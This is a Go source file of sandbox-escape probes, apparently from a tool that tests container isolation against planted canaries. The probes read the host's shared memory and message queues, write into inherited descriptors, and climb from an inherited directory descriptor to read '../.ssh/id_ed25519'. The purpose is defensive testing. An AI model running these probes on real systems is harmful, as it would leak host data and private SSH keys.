//go:build linux

package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/paddock-sandbox/paddock/attack/protocol"
)

const (
	ipcCreat = 0o1000
	ipcStat  = 2
)

// hostIPC is P26.
func hostIPC() []probe {
	return []probe{
		{"shared memory by number", func(b *protocol.Brief) protocol.Try { return attach(b.Canary.ShmID) }},
		{"shared memory by key", func(b *protocol.Brief) protocol.Try {
			id, err := unix.SysvShmGet(b.Canary.ShmKey, 0, 0)
			if err != nil {
				return refused(err)
			}
			return attach(id)
		}},
		{"all shared memory", func(*protocol.Brief) protocol.Try {
			data, err := os.ReadFile("/proc/sysvipc/shm")
			if err != nil {
				return refused(err)
			}
			last := refused(unix.ENOENT)
			for i, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
				f := strings.Fields(line)
				if i == 0 || len(f) < 2 {
					continue
				}
				id, _ := strconv.Atoi(f[1])
				if t := attach(id); t.Outcome == protocol.Reached {
					return t
				} else {
					last = t
				}
			}
			return last
		}},
		{"message queue", func(b *protocol.Brief) protocol.Try {
			var msg struct {
				typ  int64
				text [128]byte
			}
			const noWait, copyOnly, noError = 0o4000, 0o40000, 0o10000
			n, _, e := syscall.Syscall6(unix.SYS_MSGRCV, uintptr(b.Canary.MsgID), uintptr(unsafe.Pointer(&msg)), 128, 0, noWait|copyOnly|noError, 0)
			if e != 0 {
				return refused(e)
			}
			return looted(msg.text[:n])
		}},
		{"message into the queue", func(b *protocol.Brief) protocol.Try {
			msg := struct {
				typ  int64
				text [8]byte
			}{typ: 7}
			return done(try0(syscall.Syscall6(unix.SYS_MSGSND, uintptr(b.Canary.MsgID), uintptr(unsafe.Pointer(&msg)), 8, 0o4000, 0, 0)), "sent")
		}},
		{"semaphore", func(b *protocol.Brief) protocol.Try {
			const getval = 12
			return done(try0(syscall.Syscall6(unix.SYS_SEMCTL, uintptr(b.Canary.SemID), 0, getval, 0, 0, 0)), "read its value")
		}},
		{"POSIX message queue", func(b *protocol.Brief) protocol.Try {
			p, _ := unix.BytePtrFromString(b.Canary.MQueue)
			fd, err := tryFD(syscall.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(p)), unix.O_RDWR|unix.O_NONBLOCK, 0, 0, 0, 0))
			return closeTry(fd, err, "opened the host's queue")
		}},
		{"POSIX shared memory", func(b *protocol.Brief) protocol.Try { return readName("/dev/shm/" + b.Marker + "-canary") }},
	}
}

func attach(id int) protocol.Try {
	m, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return refused(err)
	}
	defer unix.SysvShmDetach(m)
	return looted(m[:min(len(m), 64)])
}

// inheritedFDs is P16.
func inheritedFDs() []probe {
	return []probe{
		{"the ones we know of", func(b *protocol.Brief) protocol.Try {
			return each(b.FDs, func(fd int) protocol.Try {
				buf := make([]byte, 256)
				n, err := unix.Pread(fd, buf, 0)
				if err == unix.EISDIR {
					return listFD(fd)
				}
				if err == unix.ESPIPE {
					_, err = unix.Write(fd, []byte("written by attacker"))
					return done(err, "wrote to it")
				}
				if err != nil {
					return refused(err)
				}
				return looted(buf[:n])
			})
		}},
		{"all above 2", func(*protocol.Brief) protocol.Try {
			var found []string
			// The runtime's own descriptors are of polls and events.
			for fd := 3; fd < 4096; fd++ {
				to, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
				if err != nil || strings.HasPrefix(to, "anon_inode:[event") || strings.HasPrefix(to, "/proc/") {
					continue
				}
				found = append(found, fmt.Sprintf("%d is %s", fd, to))
			}
			if len(found) > 0 {
				return reached("%s", strings.Join(found, ", "))
			}
			return refused(unix.EBADF)
		}},
		{"directory to climb from", func(b *protocol.Brief) protocol.Try {
			return each(b.FDs, func(fd int) protocol.Try {
				got, err := unix.Openat(fd, "../.ssh/id_ed25519", unix.O_RDONLY, 0)
				return readFD(got, err)
			})
		}},
	}
}

func listFD(fd int) protocol.Try {
	buf := make([]byte, 4096)
	n, err := unix.ReadDirent(fd, buf)
	if err != nil {
		return refused(err)
	}
	return reached("listed a directory of the host, %d bytes", n)
}
